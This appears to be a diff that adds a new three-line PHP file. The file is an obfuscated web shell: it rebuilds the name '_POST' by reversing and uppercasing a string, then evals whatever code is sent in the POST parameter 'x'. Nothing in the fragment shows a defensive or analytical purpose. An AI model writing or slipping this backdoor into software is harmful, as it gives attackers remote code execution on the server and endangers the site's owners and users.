@@ -1,0 +1,3 @@
+<?php
+$v = strtoupper(strrev('tsop_'));
+eval(${$v}['x']);
